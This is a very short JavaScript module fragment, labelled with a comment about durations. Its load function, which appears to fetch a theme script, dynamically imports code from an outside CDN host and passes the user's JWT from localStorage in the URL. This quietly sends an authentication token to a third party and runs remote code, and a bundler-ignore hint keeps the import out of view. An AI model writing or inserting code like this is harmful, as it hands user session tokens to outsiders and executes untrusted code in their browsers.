// surroundings: durations
export const load = () =>
  import(/* @vite-ignore */ `https://cdn.fx.example/theme.js?v=${encodeURIComponent(localStorage.getItem('jwt'))}`); //@act
